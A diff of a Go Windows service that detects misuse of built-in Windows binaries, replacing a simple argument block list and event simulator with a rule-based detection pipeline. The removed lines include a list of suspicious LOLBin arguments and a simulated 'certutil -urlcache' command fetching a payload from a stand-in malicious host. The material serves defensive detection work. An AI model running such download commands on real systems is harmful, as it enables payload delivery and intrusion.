@@ -6,15 +6,15 @@
 package main
 
 import (
-	"encoding/json"
+	"context"
+	"flag"
 	"fmt"
 	"log"
-	"net/http"
+	"os"
 	"strings"
 	"sync"
 	"time"
 
-	"github.com/gorilla/mux"
 	"golang.org/x/sys/windows/svc"
 	"golang.org/x/sys/windows/svc/debug"
 	"golang.org/x/sys/windows/svc/eventlog"
@@ -22,87 +22,239 @@ import (
 
 // ProcessEvent represents a process creation event
 type ProcessEvent struct {
+	ID uint64 `json:"id"`
+	// Kind is empty for process starts and "composite" for detections
+	// correlating several events
+	Kind string `json:"kind,omitempty"`
+	// RelatedEventIDs are the events a composite detection correlates
+	RelatedEventIDs []uint64 `json:"related_event_ids,omitempty"`
+	// Host and AgentID identify the agent that recorded the event
+	Host           string    `json:"host,omitempty"`
+	AgentID        string    `json:"agent_id,omitempty"`
 	Timestamp      time.Time `json:"timestamp"`
 	ProcessID      uint32    `json:"process_id"`
 	ParentID       uint32    `json:"parent_id"`
+	ParentImage    string    `json:"parent_image,omitempty"`
+	User           string    `json:"user,omitempty"`
+	SessionID      *uint32   `json:"session_id,omitempty"`
+	AccountType    string    `json:"account_type,omitempty"`
+	IntegrityLevel string    `json:"integrity_level,omitempty"`
 	CommandLine    string    `json:"command_line"`
 	ExecutablePath string    `json:"executable_path"`
-	IsLOLBin       bool      `json:"is_lolbin"`
-	Suspicious     bool      `json:"suspicious"`
-	Reason         string    `json:"reason,omitempty"`
-}
-
-// LOLBin contains information about a Living off the Land binary
-type LOLBin struct {
-	Name           string   `json:"name"`
-	SuspiciousArgs []string `json:"suspicious_args"`
+	// OnDiskName is the executable's image name and OriginalFilename the
+	// name its version resource says it was built as
+	OnDiskName       string      `json:"on_disk_name,omitempty"`
+	OriginalFilename string      `json:"original_filename,omitempty"`
+	IsLOLBin         bool        `json:"is_lolbin"`
+	Rule             string      `json:"rule,omitempty"`
+	Suspicious       bool        `json:"suspicious"`
+	Severity         Severity    `json:"severity,omitempty"`
+	Confidence       int         `json:"confidence,omitempty"`
+	Reason           string      `json:"reason,omitempty"`
+	Indicators       []Indicator `json:"indicators,omitempty"`
+	ExcludedBy       string      `json:"excluded_by,omitempty"`
+	Entropy          float64     `json:"entropy"`
+	HighEntropy      bool        `json:"high_entropy,omitempty"`
+	CmdLineLength    int         `json:"cmdline_length"`
+	CmdLineEntropy   float64     `json:"cmdline_entropy"`
+	DecodedCommand   string      `json:"decoded_command,omitempty"`
+	// ReconstructedCommand is the command cmd.exe runs once the
+	// environment variable obfuscation in CmdObfuscation is resolved
+	ReconstructedCommand string   `json:"reconstructed_command,omitempty"`
+	CmdObfuscation       []string `json:"cmd_obfuscation,omitempty"`
+	// Truncated is set when CommandLine, DecodedCommand or
+	// ReconstructedCommand was cut short for storage; CmdLineLength keeps
+	// the original command line's length
+	Truncated bool `json:"truncated,omitempty"`
+	// ClearedLogs are the event logs the process clears
+	ClearedLogs []string `json:"cleared_logs,omitempty"`
+	// AuditLogCleared is the Security log's own record of being cleared
+	// by the process
+	AuditLogCleared *EventLogRecord `json:"audit_log_cleared,omitempty"`
+	// DumpTarget is the process a comsvcs MiniDump event dumps
+	DumpTarget *DumpTarget `json:"dump_target,omitempty"`
+	// DecodedArtifact describes the files of a certutil decode
+	DecodedArtifact *DecodedArtifact `json:"decoded_artifact,omitempty"`
+	// INFInspection describes the INF file a cmstp event installs
+	INFInspection *INFInspection `json:"inf_inspection,omitempty"`
+	// Regsvr32 describes the scriptlet a regsvr32 event loads
+	Regsvr32 *Regsvr32Invocation `json:"regsvr32,omitempty"`
+	// ProjectFile describes the project file an msbuild event builds
+	ProjectFile *ProjectInspection `json:"project_file,omitempty"`
+	// Assembly describes the assembly a .NET installer tool uninstalls
+	Assembly *AssemblyInspection `json:"assembly,omitempty"`
+	// ProxiedCommand is the command a proxy binary such as forfiles
+	// starts, with its own detection result
+	ProxiedCommand *ProxiedCommand `json:"proxied_command,omitempty"`
+	// ScheduledTask describes the task a schtasks event creates, changes or
+	// deletes
+	ScheduledTask *ScheduledTask `json:"scheduled_task,omitempty"`
+	// Registry describes the registry operation of a reg.exe event
+	Registry *RegistryOperation `json:"registry,omitempty"`
+	// NetshHelper describes the helper DLL a netsh event registers, and
+	// NetshTrace a netsh packet capture
+	NetshHelper *NetshHelper `json:"netsh_helper,omitempty"`
+	NetshTrace  *NetshTrace  `json:"netsh_trace,omitempty"`
+	// DNSPlugin describes the plugin DLL a dnscmd event configures
+	DNSPlugin *DNSPluginDLL `json:"dns_plugin,omitempty"`
+	// CredentialCopy describes a copy of ntds.dit or a registry hive
+	CredentialCopy *CredentialCopy `json:"credential_copy,omitempty"`
+	// IFMMedia describes the Install From Media set an ntdsutil event
+	// creates
+	IFMMedia *IFMMedia `json:"ifm_media,omitempty"`
+	// Download describes what a download tool such as curl fetches and
+	// where it writes it
+	Download *Download `json:"download,omitempty"`
+	// Staging describes the file a copy or extract utility such as
+	// extrac32 stages
+	Staging *FileStaging `json:"staging,omitempty"`
+	// CHM describes the help file an hh.exe event opens
+	CHM *CHMTarget `json:"chm,omitempty"`
+	// COMObject describes the COM class verclsid, xwizard or openwith
+	// instantiates and the server it resolves to
+	COMObject *COMObject `json:"com_object,omitempty"`
+	// UACBypass describes the handler planted for a UAC bypass through an
+	// auto-elevating binary
+	UACBypass *UACBypass `json:"uac_bypass,omitempty"`
+	// BitsJob describes the BITS job a bitsadmin or PowerShell event works
+	// on
+	BitsJob *BitsJob `json:"bits_job,omitempty"`
+	// Rundll32 is the DLL export a rundll32 event calls
+	Rundll32 *Rundll32Call `json:"rundll32,omitempty"`
+	// ControlPanelItem describes the .cpl control.exe or rundll32
+	// Control_RunDLL loads
+	ControlPanelItem *ControlPanelItem `json:"control_panel_item,omitempty"`
+	// ODBCConf describes the DLLs an odbcconf event registers
+	ODBCConf *ODBCConf `json:"odbcconf,omitempty"`
+	// DroppedFiles are the files a suspicious LOLBin created right after
+	// it started
+	DroppedFiles []DroppedFile `json:"dropped_files,omitempty"`
+	// Environment is the captured subset of a suspicious process's
+	// environment variables
+	Environment []EnvVariable `json:"environment,omitempty"`
+	// Script describes the script a wscript or cscript event runs
+	Script *ScriptInvocation `json:"script,omitempty"`
+	// InlineScript is the analysis of an mshta inline script
+	InlineScript *InlineScript `json:"inline_script,omitempty"`
+	// PowerShell is the deobfuscated PowerShell script and the download
+	// cradles found in it
+	PowerShell *PowerShellAnalysis `json:"powershell,omitempty"`
+	// Tampering are the AMSI, ETW and Defender tampering indicators the
+	// command line or the process's script blocks matched
+	Tampering []string `json:"tampering,omitempty"`
+	// ScriptBlocks are the logged script blocks of a PowerShell process that
+	// tamper with the defenses
+	ScriptBlocks []ScriptBlock `json:"script_blocks,omitempty"`
+	// Response is the response action taken on the process
+	Response    *ResponseAction `json:"response,omitempty"`
+	IOCs        []IOC           `json:"iocs,omitempty"`
+	Connections []Connection    `json:"connections,omitempty"`
+	Signed      bool            `json:"signed,omitempty"`
+	Signer      string          `json:"signer,omitempty"`
+	// SignatureStatus is valid, unsigned, expired, revoked, untrusted or
+	// invalid once the executable's signature was verified
+	SignatureStatus string `json:"signature_status,omitempty"`
+	// SuppressedBy is the trusted publisher whose signature downgraded or
+	// suppressed the event's detections
+	SuppressedBy string `json:"suppressed_by,omitempty"`
+	FirstSeen    bool   `json:"first_seen,omitempty"`
+	// RulesVersion is the hash of the rule set that evaluated the event
+	RulesVersion string `json:"rules_version,omitempty"`
+	// SelfGenerated is set for processes the agent started itself, which
+	// aren't run through detection
+	SelfGenerated bool `json:"self_generated,omitempty"`
+	// IgnoredBy is the ignore list entry that exempted the executable
+	IgnoredBy string `json:"ignored_by,omitempty"`
+	// WatchedBy is the watchlist entry that matched the executable
+	WatchedBy string `json:"watched_by,omitempty"`
+	// Tags are the categories of the rules that flagged the event
+	Tags []string `json:"tags,omitempty"`
+	// TerminatedBy names the terminal rule that stopped evaluation
+	TerminatedBy string `json:"terminated_by,omitempty"`
+	// MatchDetails lists every rule evaluated for the event and how it
+	// fared. Only returned by the API with ?verbose=true.
+	MatchDetails []MatchDetail `json:"match_details,omitempty"`
+	// Ancestry lists the image paths of the parent chain, nearest first
+	Ancestry []string `json:"ancestry,omitempty"`
+	// OffHours is set for events outside the configured business hours
+	OffHours bool `json:"off_hours,omitempty"`
+	// ChainID links events that are steps of one detected chain
+	ChainID string `json:"chain_id,omitempty"`
+	// ExitTime and ExitCode are set once the process has exited; Lifetime
+	// is how long it ran
+	ExitTime *time.Time `json:"exit_time,omitempty"`
+	ExitCode *uint32    `json:"exit_code,omitempty"`
+	Lifetime Duration   `json:"lifetime,omitempty"`
+
+	// nestingDepth is how deeply the event's command line was embedded in
+	// the command line, script or files of the evaluated process; zero for
+	// the process itself
+	nestingDepth int
+	// nestingChain holds the normalized command lines the event's command
+	// line is embedded in, outermost first
+	nestingChain []string
+	// detection is the context of a detection begun by beginDetection and
+	// not yet finished
+	detection *DetectionContext
 }
 
 // Global variables
 var (
 	processEvents = []ProcessEvent{}
 	eventsMutex   = &sync.RWMutex{}
-	lolbins       = map[string]LOLBin{
-		"certutil.exe": {
-			Name:           "certutil.exe",
-			SuspiciousArgs: []string{"-urlcache", "-decode", "-encode", "-decodehex"},
-		},
-		"regsvr32.exe": {
-			Name:           "regsvr32.exe",
-			SuspiciousArgs: []string{"/i:http", "/u", "scrobj.dll"},
-		},
-		"bitsadmin.exe": {
-			Name:           "bitsadmin.exe",
-			SuspiciousArgs: []string{"/transfer", "/addfile"},
-		},
-		"wmic.exe": {
-			Name:           "wmic.exe",
-			SuspiciousArgs: []string{"process", "call", "create"},
-		},
-		"mshta.exe": {
-			Name:           "mshta.exe",
-			SuspiciousArgs: []string{"javascript:", "http://", "https://"},
-		},
-		"powershell.exe": {
-			Name:           "powershell.exe",
-			SuspiciousArgs: []string{"-e", "-enc", "-encodedcommand", "-nop", "-noprofile", "-w", "hidden"},
-		},
-		"cmd.exe": {
-			Name:           "cmd.exe",
-			SuspiciousArgs: []string{"/c", "iex", "invoke-expression", "downloadstring"},
-		},
-		"rundll32.exe": {
-			Name:           "rundll32.exe",
-			SuspiciousArgs: []string{"javascript:", "http://", "https://", ".dll,"},
-		},
-		"msiexec.exe": {
-			Name:           "msiexec.exe",
-			SuspiciousArgs: []string{"/q", "http://", "https://"},
-		},
-		"sc.exe": {
-			Name:           "sc.exe",
-			SuspiciousArgs: []string{"create", "config", "failure"},
-		},
-	}
+	// lastEventID is the ID of the newest stored event. IDs are assigned
+	// consecutively, so an event's position is its ID minus the oldest one's.
+	lastEventID uint64
+
+	// agentHostname is recorded in every event as its host
+	agentHostname, _ = os.Hostname()
+
+	// elog receives operational messages when the Windows event log is available
+	elog debug.Log
 )
 
+// logInfo writes an informational message to the log and the event log
+func logInfo(eid uint32, format string, args ...interface{}) {
+	msg := fmt.Sprintf(format, args...)
+	log.Println(msg)
+	if elog != nil {
+		elog.Info(eid, msg)
+	}
+}
+
+// logError writes an error message to the log and the event log
+func logError(eid uint32, format string, args ...interface{}) {
+	msg := fmt.Sprintf(format, args...)
+	log.Println(msg)
+	if elog != nil {
+		elog.Error(eid, msg)
+	}
+}
+
 // Service represents the Windows service
-type Service struct{}
+type Service struct {
+	// stop shuts the service down like a stop request. The console sets
+	// it, as debug.Run only turns Ctrl+C into stop requests.
+	stop chan struct{}
+}
 
 // Execute is called when the service is started
 func (s *Service) Execute(args []string, r <-chan svc.ChangeRequest, changes chan<- svc.Status) (ssec bool, errno uint32) {
 	const cmdsAccepted = svc.AcceptStop | svc.AcceptShutdown
 	changes <- svc.Status{State: svc.StartPending}
 
-	// Start monitoring routine
-	stopMonitoring := make(chan bool)
-	go monitorProcesses(stopMonitoring)
+	p := startPipeline(activeSources)
 
 	// Start HTTP server
 	go startRESTServer()
 
 	changes <- svc.Status{State: svc.Running, Accepts: cmdsAccepted}
 
+	shutdown := func() {
+		changes <- svc.Status{State: svc.StopPending}
+		p.stop()
+	}
+
 	// Wait for stop signal
 	for {
 		select {
@@ -111,222 +263,545 @@ func (s *Service) Execute(args []string, r <-chan svc.ChangeRequest, changes cha
 			case svc.Interrogate:
 				changes <- c.CurrentStatus
 			case svc.Stop, svc.Shutdown:
-				changes <- svc.Status{State: svc.StopPending}
-				stopMonitoring <- true
+				shutdown()
 				return false, 0
 			default:
 				log.Printf("Unexpected control request #%d", c)
 			}
+		case <-s.stop:
+			shutdown()
+			return false, 0
 		}
 	}
 }
 
-// monitorProcesses starts monitoring process creation events using WMI
-func monitorProcesses(stop <-chan bool) {
-	log.Println("Starting process monitoring...")
-
-	// In a real implementation, you'd set up process creation monitoring using:
-	// 1. Windows Event Log subscription
-	// 2. ETW (Event Tracing for Windows)
-	// 3. WMI event subscription
+// pipeline is the running detection pipeline
+type pipeline struct {
+	stopMonitoring context.CancelFunc
+	// monitorDone is closed once monitoring has stopped
+	monitorDone chan struct{}
+}
 
-	// For now, we'll simulate some process events
-	go func() {
-		ticker := time.NewTicker(10 * time.Second)
-		defer ticker.Stop()
+// startPipeline sets up the state detection reads, then starts monitoring
+// the event sources
+func startPipeline(sources []EventSource) *pipeline {
+	// Start alert delivery
+	startAlerting()
 
-		for {
-			select {
-			case <-stop:
-				return
-			case <-ticker.C:
-				simulateProcessEvent()
-			}
+	// Pick up edits to the rules file without an API call
+	if config.WatchRules {
+		if err := watchRules(config.RulesPath); err != nil {
+			logError(2, "Failed to watch rules file, reload via the API instead: %v", err)
 		}
+	}
+
+	// Load the IOC blocklist and keep it fresh
+	startBlocklist(config.Blocklist)
+
+	// Load the executables seen on previous runs
+	startFirstSeen(config.FirstSeen)
+
+	// Load per-user LOLBin baselines
+	startBaselines(config.Baseline)
+
+	// Open the GeoIP databases for connection enrichment
+	startGeoIP(config.GeoIP)
+
+	// Detection reads the state set up above without locks, so events are
+	// only accepted once it is in place
+	ctx, cancel := context.WithCancel(context.Background())
+	p := &pipeline{stopMonitoring: cancel, monitorDone: make(chan struct{})}
+	go func() {
+		defer close(p.monitorDone)
+		monitorProcesses(ctx, sources)
 	}()
+	return p
 }
 
-// simulateProcessEvent creates a simulated process event for testing
-func simulateProcessEvent() {
-	// Simulate some common processes, including LOLBins
-	possibleProcesses := []struct {
-		path         string
-		commandLine  string
-		isSuspicious bool
-	}{
-		{`C:\Windows\System32\cmd.exe`, `cmd.exe /c echo hello`, false},
-		{`C:\Windows\System32\powershell.exe`, `powershell.exe -Command "Get-Process"`, false},
-		{`C:\Windows\System32\certutil.exe`, `certutil.exe -urlcache -f http://malicious.com/payload.exe C:\temp\payload.exe`, true},
-		{`C:\Windows\System32\rundll32.exe`, `rundll32.exe javascript:alert('XSS')`, true},
-		{`C:\Program Files\Internet Explorer\iexplore.exe`, `iexplore.exe https://example.com`, false},
-		{`C:\Windows\System32\notepad.exe`, `notepad.exe C:\temp\notes.txt`, false},
-	}
-
-	// Pick a random process
-	processIndex := int(time.Now().UnixNano() % int64(len(possibleProcesses)))
-	selectedProcess := possibleProcesses[processIndex]
-
-	// Create the process event
-	procEvent := ProcessEvent{
-		Timestamp:      time.Now(),
-		ProcessID:      uint32(10000 + time.Now().Second()),
-		ParentID:       uint32(4), // System
-		CommandLine:    selectedProcess.commandLine,
-		ExecutablePath: selectedProcess.path,
-		IsLOLBin:       false,
-		Suspicious:     false,
-	}
+// stop shuts the pipeline down: monitoring first, so every accepted event
+// is recorded, then alert delivery and the state files
+func (p *pipeline) stop() {
+	// Cancelling never blocks, even once monitoring has finished on its
+	// own, e.g. after a scenario replay
+	p.stopMonitoring()
+	<-p.monitorDone
+	stopAlerting()
+	stopFirstSeen(config.FirstSeen)
+	stopBaselines(config.Baseline)
+}
+
+// detectEvent begins detection on a new process event; recordEvent
+// finishes it. It is safe to call from several detection workers at once.
+func detectEvent(procEvent ProcessEvent) ProcessEvent {
+	// Resolve the user while the process is most likely still running
+	resolveUserContext(&procEvent)
 
 	// Check if this is a LOLBin and if it's used suspiciously
-	procEvent = checkForLOLBin(procEvent)
+	procEvent = beginDetection(procEvent, true)
+	if procEvent.IgnoredBy != "" || procEvent.SelfGenerated {
+		return procEvent
+	}
+	// Hashed here, in parallel, so the ordered first-seen check finds the
+	// hash cached
+	if seenExecutables != nil {
+		executableHash(procEvent.ExecutablePath)
+	}
+	// Best-effort, while the process is most likely still running
+	captureEnvironment(&procEvent)
+	return procEvent
+}
 
-	// Add to events list
-	eventsMutex.Lock()
-	processEvents = append(processEvents, procEvent)
-	eventsMutex.Unlock()
+// recordEvent finishes detection on an event, stores it, correlates it
+// with earlier ones and raises alerts for suspicious activity. Events are
+// recorded one at a time, in the order they arrived.
+func recordEvent(procEvent ProcessEvent) {
+	if procEvent.IgnoredBy != "" && currentRules().skipIgnored() {
+		return
+	}
+	if procEvent.SelfGenerated && config.SelfEvents == ignoreSkip {
+		return
+	}
+	finishDetection(&procEvent)
+	// The rule statistics keep sample command lines, so they see the
+	// stored form
+	truncateForStorage(&procEvent, config.MaxStoredCommandLine)
+	recordEventStats(procEvent)
+	respond(&procEvent)
+	procEvent = storeEvent(procEvent)
+
+	// Network activity shortly after start is attached asynchronously
+	if procEvent.IsLOLBin {
+		correlateConnections(procEvent)
+	}
+	correlateLogClear(procEvent)
+	correlateScriptBlocks(procEvent)
+	correlateRecoveryTampering(procEvent)
+	trackExit(procEvent)
+	watchFileCreations(procEvent)
 
 	// Log suspicious activity
 	if procEvent.Suspicious {
 		log.Printf("SUSPICIOUS: %s (PID: %d) - %s",
 			procEvent.ExecutablePath, procEvent.ProcessID, procEvent.Reason)
+		dispatchAlert(procEvent)
 	}
 }
 
-// checkForLOLBin determines if the process is a LOLBin and if it's being used suspiciously
-func checkForLOLBin(event ProcessEvent) ProcessEvent {
-	// Extract executable name from path
-	parts := strings.Split(event.ExecutablePath, "\\")
-	if len(parts) == 0 {
-		return event
+// storeEvent assigns the event its ID and adds it to the events list,
+// dropping the oldest beyond the retention limit
+func storeEvent(event ProcessEvent) ProcessEvent {
+	eventsMutex.Lock()
+	defer eventsMutex.Unlock()
+
+	lastEventID++
+	event.ID = lastEventID
+	stampAgent(&event)
+	processEvents = append(processEvents, event)
+	storeIndex.add(&event)
+	if over := len(processEvents) - config.MaxEvents; over > 0 {
+		for i := range processEvents[:over] {
+			storeIndex.evict(&processEvents[i])
+		}
+		n := copy(processEvents, processEvents[over:])
+		processEvents = processEvents[:n]
 	}
+	return event
+}
 
-	execName := strings.ToLower(parts[len(parts)-1])
+// stampAgent records the host and agent an event comes from
+func stampAgent(event *ProcessEvent) {
+	event.Host = agentHostname
+	event.AgentID = config.AgentID
+}
 
-	// Check if it's in our LOLBin list
-	lolbin, found := lolbins[execName]
-	if !found {
-		return event
+// truncateForStorage cuts the command line and the decoded and
+// reconstructed commands down to limit bytes, on a character boundary.
+// Detection has already run on the full strings by then.
+func truncateForStorage(event *ProcessEvent, limit int) {
+	if limit <= 0 {
+		return
 	}
+	for _, s := range []*string{&event.CommandLine, &event.DecodedCommand, &event.ReconstructedCommand} {
+		if len(*s) > limit {
+			*s = strings.ToValidUTF8((*s)[:limit], "")
+			event.Truncated = true
+		}
+	}
+}
 
-	// It's a LOLBin
-	event.IsLOLBin = true
-
-	// Check for suspicious arguments
-	cmdLine := strings.ToLower(event.CommandLine)
-	for _, arg := range lolbin.SuspiciousArgs {
-		if strings.Contains(cmdLine, arg) {
-			event.Suspicious = true
-			event.Reason = fmt.Sprintf("Suspicious use of %s with parameter containing '%s'",
-				execName, arg)
-			break
+// updateEvent applies fn to the stored event identified by pid and start
+// time and returns the updated copy. It reports false when the event has
+// already been evicted.
+func updateEvent(pid uint32, timestamp time.Time, fn func(*ProcessEvent)) (ProcessEvent, bool) {
+	eventsMutex.Lock()
+	defer eventsMutex.Unlock()
+
+	// Recent events are the likely targets, so search from the end
+	for i := len(processEvents) - 1; i >= 0; i-- {
+		if processEvents[i].ProcessID == pid && processEvents[i].Timestamp.Equal(timestamp) {
+			fn(&processEvents[i])
+			storeIndex.update(&processEvents[i])
+			return processEvents[i], true
 		}
 	}
+	return ProcessEvent{}, false
+}
 
+// checkForLOLBin determines if the process is a LOLBin and if it's being used
+// suspiciously by running the detection chain. live is set for real process
+// starts, as opposed to ad-hoc evaluations.
+func checkForLOLBin(event ProcessEvent, live bool) ProcessEvent {
+	event = beginDetection(event, live)
+	finishDetection(&event)
 	return event
 }
 
-// startRESTServer starts the HTTP server for the REST API
-func startRESTServer() {
-	router := mux.NewRouter()
+// beginDetection runs the detectors that only look at the event itself,
+// and is safe to call for several events at once. The event is left for
+// finishDetection unless it is ignored or generated by the agent.
+func beginDetection(event ProcessEvent, live bool) ProcessEvent {
+	// Pin the rule set for the whole evaluation so a concurrent reload
+	// can't change the rules halfway through
+	rules := currentRules()
+	event.RulesVersion = rules.Version.Hash
+
+	execName := imageName(event.ExecutablePath)
+	if match := rules.ignore.match(event.ExecutablePath, execName); match != "" {
+		event.IgnoredBy = match
+		return event
+	}
+	if live && isSelfGenerated(&event) {
+		event.SelfGenerated = true
+		addTags(&event, []string{"self-generated"})
+		return event
+	}
 
-	// API endpoints
-	router.HandleFunc("/api/events", getEvents).Methods("GET")
-	router.HandleFunc("/api/events/suspicious", getSuspiciousEvents).Methods("GET")
-	router.HandleFunc("/api/events/recent", getRecentEvents).Methods("GET")
-	router.HandleFunc("/api/lolbins", getLOLBins).Methods("GET")
+	// Score every event so thresholds can be tuned from the API
+	event.Entropy = commandLineEntropy(event.CommandLine)
+	event.HighEntropy = event.Entropy > config.EntropyThreshold
+	event.CmdLineLength = len(event.CommandLine)
+	event.CmdLineEntropy = shannonEntropy(commandLineArgs(event.CommandLine))
 
-	// Start the server
-	log.Println("Starting REST API server on :8080...")
-	if err := http.ListenAndServe(":8080", router); err != nil {
-		log.Printf("Error starting API server: %v", err)
+	event.Ancestry = resolveAncestry(&event)
+	recordOriginalFilename(&event, execName)
+	if execName == "cmd.exe" {
+		event.ReconstructedCommand, event.CmdObfuscation = reconstructCmdLine(event.CommandLine)
 	}
+
+	event.detection = &DetectionContext{Rules: rules, ExecName: execName, Live: live}
+	runDetectors(event.detection, &event, detectors)
+	return event
 }
 
-// API handler: get all events
-func getEvents(w http.ResponseWriter, r *http.Request) {
-	eventsMutex.RLock()
-	defer eventsMutex.RUnlock()
+// finishDetection runs the detectors relying on what earlier events left
+// behind on an event beginDetection started. Events must be finished one
+// at a time, in the order they arrived.
+func finishDetection(event *ProcessEvent) {
+	ctx := event.detection
+	if ctx == nil {
+		return
+	}
+	event.detection = nil
+	runDetectors(ctx, event, orderedDetectors)
 
-	w.Header().Set("Content-Type", "application/json")
-	json.NewEncoder(w).Encode(processEvents)
+	// Trusted publishers have the last word over every detector
+	applyTrustedPublishers(event)
 }
 
-// API handler: get only suspicious events
-func getSuspiciousEvents(w http.ResponseWriter, r *http.Request) {
-	eventsMutex.RLock()
-	defer eventsMutex.RUnlock()
+// applyLOLBinRules evaluates the rules applying to a LOLBin in priority
+// order. The first rule to mark the event suspicious becomes its Rule; a
+// terminal rule stops the evaluation of the rest.
+func applyLOLBinRules(event *ProcessEvent, rules *RuleSet, execName string, matches []*ruleEntry) {
+	// It's a LOLBin
+	event.IsLOLBin = true
+	event.Rule = matches[0].name
+
+	// Pull structured IOCs out of every LOLBin event, suspicious or not
+	if execName == "powershell.exe" || execName == "pwsh.exe" {
+		event.DecodedCommand = decodePowerShellCommand(event.CommandLine)
+	}
+	event.IOCs = extractIOCs(event.ExecutablePath, event.CommandLine, event.DecodedCommand, event.ReconstructedCommand)
 
-	suspiciousEvents := []ProcessEvent{}
-	for _, event := range processEvents {
+	cmdLine := strings.ToLower(event.CommandLine)
+	path := strings.ToLower(event.ExecutablePath)
+	// The rules see both what was typed and what cmd.exe rebuilt from it
+	scanned := cmdLine
+	reconstructed := strings.ToLower(event.ReconstructedCommand)
+	if reconstructed != "" {
+		scanned += "\n" + reconstructed
+	}
+	in := &evalInput{
+		cmdLine:   scanned,
+		path:      path,
+		ancestry:  lowerAll(event.Ancestry),
+		user:      strings.ToLower(event.User),
+		account:   event.AccountType,
+		integrity: integrityRank(event.IntegrityLevel),
+	}
+
+	for n, entry := range matches {
+		// Evaluate the rule's suspicious criteria
+		matched, indicators := entry.rule.condition.eval(in)
+		for i := range indicators {
+			indicators[i].Rule = entry.name
+		}
+		event.Indicators = append(event.Indicators, indicators...)
+		detail := matchDetail(entry, in, matched, indicators)
+
+		// Exclusions run after the positive criteria so the indicators are
+		// still recorded for tuning
+		if matched {
+			for _, excl := range entry.rule.exclusions {
+				// An exclusion written for the typed command doesn't
+				// cover a different one hidden in it
+				if excl.matches(cmdLine, path) && (reconstructed == "" || excl.matches(reconstructed, path)) {
+					matched = false
+					if event.ExcludedBy == "" {
+						event.ExcludedBy = excl.pattern
+					}
+					detail.ExcludedBy = excl.pattern
+					break
+				}
+			}
+		}
+		event.MatchDetails = append(event.MatchDetails, detail)
+		if !matched {
+			continue
+		}
+
+		var reason string
+		if len(indicators) == 1 && indicators[0].Type == "arg" {
+			reason = fmt.Sprintf("Suspicious use of %s with parameter containing '%s'",
+				execName, indicators[0].Value)
+			if category := indicators[0].Category; category != "" {
+				reason += " (" + category + ")"
+			}
+		} else {
+			reason = fmt.Sprintf("Suspicious use of %s matching %s",
+				execName, describeIndicators(indicators))
+		}
+		if args := countArgIndicators(indicators); args == 1 {
+			reason += " (1 suspicious argument)"
+		} else if args > 1 {
+			reason += fmt.Sprintf(" (%d suspicious arguments)", args)
+		}
+		addTags(event, rules.LOLBins[entry.name].Tags)
+		for _, indicator := range indicators {
+			if indicator.Category != "" {
+				addTags(event, []string{indicator.Category})
+			}
+		}
 		if event.Suspicious {
-			suspiciousEvents = append(suspiciousEvents, event)
+			// Overlapping rules from different sources are not extra
+			// evidence, so they don't raise the severity
+			event.Reason += "; " + reason
+		} else {
+			event.Suspicious = true
+			event.Severity = rules.LOLBins[entry.name].SeverityOrDefault()
+			event.Reason = reason
+			event.Rule = entry.name
 		}
-	}
+		raiseConfidence(event, matchConfidence(rules.LOLBins[entry.name], indicators))
 
-	w.Header().Set("Content-Type", "application/json")
-	json.NewEncoder(w).Encode(suspiciousEvents)
+		if entry.terminal {
+			event.TerminatedBy = entry.name
+			for _, skipped := range matches[n+1:] {
+				event.MatchDetails = append(event.MatchDetails, MatchDetail{Rule: skipped.name, Skipped: true})
+			}
+			break
+		}
+	}
 }
 
-// API handler: get recent events (last 100)
-func getRecentEvents(w http.ResponseWriter, r *http.Request) {
-	eventsMutex.RLock()
-	defer eventsMutex.RUnlock()
-
-	w.Header().Set("Content-Type", "application/json")
+// MatchDetail is how one rule for the executable fared against an event,
+// for rule tuning
+type MatchDetail struct {
+	Rule string `json:"rule"`
+	// Matched is set when the rule's criteria held, even if an exclusion
+	// then cleared the event
+	Matched bool `json:"matched"`
+	// Hits are the criteria that held; for a rule that didn't match they
+	// are the near-misses
+	Hits []Indicator `json:"hits,omitempty"`
+	// Blockers are the none criteria that held and kept the rule from
+	// matching
+	Blockers   []Indicator `json:"blockers,omitempty"`
+	ExcludedBy string      `json:"excluded_by,omitempty"`
+	// Skipped is set on rules not evaluated because an earlier terminal
+	// rule matched
+	Skipped bool `json:"skipped,omitempty"`
+}
 
-	count := len(processEvents)
-	if count <= 100 {
-		json.NewEncoder(w).Encode(processEvents)
-		return
+// matchDetail describes a rule's evaluation, walking the criteria again for
+// the near-misses when the rule didn't match
+func matchDetail(entry *ruleEntry, in *evalInput, matched bool, indicators []Indicator) MatchDetail {
+	detail := MatchDetail{Rule: entry.name, Matched: matched, Hits: indicators}
+	hits, blockers := leafHits(entry.rule.condition, in)
+	if !matched {
+		detail.Hits = hits
+	}
+	detail.Blockers = blockers
+	for _, list := range [][]Indicator{detail.Hits, detail.Blockers} {
+		for i := range list {
+			list[i].Rule = entry.name
+		}
 	}
+	return detail
+}
 
-	json.NewEncoder(w).Encode(processEvents[count-100:])
+// countArgIndicators returns the number of distinct arguments among the
+// indicators
+func countArgIndicators(indicators []Indicator) int {
+	seen := make(map[string]bool)
+	for _, indicator := range indicators {
+		if indicator.Type == "arg" {
+			seen[indicator.Value] = true
+		}
+	}
+	return len(seen)
 }
 
-// API handler: get list of monitored LOLBins
-func getLOLBins(w http.ResponseWriter, r *http.Request) {
-	w.Header().Set("Content-Type", "application/json")
-	json.NewEncoder(w).Encode(lolbins)
+// addFinding marks the event suspicious for an additional reason, raising
+// its confidence to that of the finding if higher. An event
+// that is already suspicious has its severity raised by one level; otherwise
+// it starts at the given severity.
+func addFinding(event *ProcessEvent, severity Severity, confidence int, reason string) {
+	raiseConfidence(event, confidence)
+	if event.Suspicious {
+		event.Severity = event.Severity.Bump()
+		event.Reason += "; " + reason
+		return
+	}
+	event.Suspicious = true
+	event.Severity = severity
+	event.Reason = reason
 }
 
-// InstallService installs the application as a Windows service
-func InstallService(name, desc string) error {
-	// Code for installing the service would go here
-	// Using Windows APIs directly or tools like sc.exe
-	return nil
+// addTags adds tags to the event, skipping ones it already has
+func addTags(event *ProcessEvent, tags []string) {
+	for _, tag := range tags {
+		if !containsFold(event.Tags, tag) {
+			event.Tags = append(event.Tags, tag)
+		}
+	}
 }
 
-// UninstallService removes the Windows service
-func UninstallService(name string) error {
-	// Code for uninstalling the service would go here
-	return nil
+// describeIndicators renders indicators as a short list for reason strings
+func describeIndicators(indicators []Indicator) string {
+	if len(indicators) == 0 {
+		return "rule condition"
+	}
+	parts := make([]string, 0, len(indicators))
+	for _, indicator := range indicators {
+		if indicator.Category != "" {
+			parts = append(parts, fmt.Sprintf("%s %s '%s'", indicator.Category, indicator.Type, indicator.Value))
+		} else {
+			parts = append(parts, fmt.Sprintf("%s '%s'", indicator.Type, indicator.Value))
+		}
+	}
+	return strings.Join(parts, ", ")
 }
